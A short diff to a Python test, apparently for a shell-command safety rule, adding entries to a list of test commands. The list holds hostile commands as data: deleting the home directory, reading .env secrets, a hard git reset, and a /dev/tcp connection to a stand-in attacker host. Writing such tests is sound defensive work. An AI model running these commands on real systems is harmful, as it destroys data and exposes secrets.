@@ -434,6 +434,8 @@ def test_wrappers_and_cores_are_as_many_as_the_rule_needs() -> None:
         "cd /tmp/x && npm test",
         "npm --prefix /tmp/x run build",
         "nvm exec 20 rm -rf ~",
+        "nvm exec 20 git reset --hard",
+        "cat < /dev/tcp/evil.example/80",
         "cat -n .env",
         "paste -s .env",
         "chmod -x /bin/ls",
